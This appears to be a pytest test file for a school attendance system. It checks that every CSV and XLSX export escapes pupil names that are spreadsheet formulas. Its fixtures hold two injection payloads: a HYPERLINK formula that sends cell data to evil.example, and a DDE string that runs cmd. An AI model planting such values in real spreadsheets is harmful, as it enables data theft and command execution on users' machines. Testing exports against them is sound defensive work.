"""Every CSV and XLSX export, fed a pupil whose name is a formula, writes it as text.

The writers all go through attendance_site.spreadsheet; these tests fail if one of them
writes its own CSV or XLSX again.
"""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tests.conftest import client_for
from tests.letters.conftest import contact, mark, school_days

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_FORE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil(calendar, make_pupil):
    p = make_pupil(group="4B", year_group=4, legal_surname=EVIL, legal_forename=EVIL_FORE,
                   date_of_birth=date(2016, 10, 1))
    mark(p, school_days(date(2026, 1, 5), 10), "O")
    contact(p, address="-1+1 Formula Road")
    return p


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_safe(cells):
    assert cells, "no cells: the export was empty"
    risky = [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")
             and not c.lstrip("+-").replace(".", "", 1).isdigit()]
    assert risky == []


def test_dashboard_pupil_list_csv_and_xlsx(evil, people):
    head = client_for(people["head"])
    q = {"from": "2026-01-05", "to": "2026-01-16", "cohort": "all"}
    cells = _csv_cells(head.get("/dashboard/pupils/", {**q, "format": "csv"}).content.decode())
    assert f"'{EVIL}, '{EVIL_FORE}" not in cells and any(c.startswith("'=HYPERLINK") for c in cells)
    _assert_safe(cells)
    ws = load_workbook(io.BytesIO(head.get("/dashboard/pupils/", {**q, "format": "xlsx"}).content)).active
    values = [c.value for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    _assert_safe(values)
    today = head.get("/dashboard/today/", {"day": "2026-01-05", "state": "unauthorised",
                                          "format": "csv"}).content.decode()
    assert any(c.startswith("'=HYPERLINK") for c in _csv_cells(today))
    _assert_safe(_csv_cells(today))


def test_la_return_csv(evil, people):
    from letters.models import LAReturn

    lead = client_for(people["attendance_officer"])
    lead.post("/letters/returns/", {"kind": "attendance", "period_start": "2026-01-01",
                                    "period_end": "2026-03-31"})
    ret = LAReturn.objects.get()
    assert ret.entries.filter(legal_surname=EVIL).exists()
    cells = _csv_cells(lead.get(f"/letters/returns/{ret.pk}/export.csv").content.decode())
    assert f"'{EVIL}" in cells and "'-1+1 Formula Road" in "".join(cells)
    _assert_safe(cells)


def test_census_csv(evil, people):
    lead = client_for(people["attendance_officer"])
    r = lead.get("/letters/census/", {"term": "spring", "year": 2025, "format": "csv"})
    cells = _csv_cells(r.content.decode())
    assert f"'{EVIL}" in cells and f"'{EVIL_FORE}" in cells
    _assert_safe(cells)


@pytest.mark.parametrize("kind", ["attendance", "cme", "census"])
def test_export_return_command(evil, capsys, kind):
    call_command("export_return", "--schema=test_a", f"--kind={kind}", "--as-of=2026-03-31",
                 "--format=csv")
    cells = _csv_cells(capsys.readouterr().out)
    assert f"'{EVIL}" in cells
    _assert_safe(cells)


def test_trust_dashboard_school_names(evil, people, school_a):
    from tenants.models import School

    School.objects.filter(pk=school_a.pk).update(name="+Trust=School")
    client = client_for(people["trust_director"], host="localhost")
    r = client.get(f"/trust/{school_a.trust.slug}/", {"format": "csv"})
    cells = _csv_cells(r.content.decode())
    assert "'+Trust=School" in cells
    _assert_safe(cells)
